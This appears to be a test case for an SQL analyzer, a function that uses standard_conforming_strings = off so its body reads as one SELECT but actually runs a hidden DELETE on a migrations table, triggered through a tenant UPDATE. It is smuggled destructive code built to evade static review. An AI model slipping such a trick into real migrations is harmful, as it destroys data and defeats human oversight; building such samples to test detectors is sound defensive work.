-- class: tokenization
-- A SQL function with SET standard_conforming_strings = off: its body is one harmless SELECT to the analyzer but three statements (one deleting the ledger) when the function runs.
CREATE FUNCTION default_export_dir() RETURNS text
LANGUAGE sql VOLATILE
SET standard_conforming_strings = off
AS $body$
  SELECT 'C:\' || $q$'; DELETE FROM netlify.migrations WHERE name > $d$2024$d$; SELECT 'C:\exports'; -- $q$
$body$;

ALTER TABLE tenants ADD COLUMN export_dir text;
UPDATE tenants SET export_dir = default_export_dir() WHERE export_dir IS NULL;
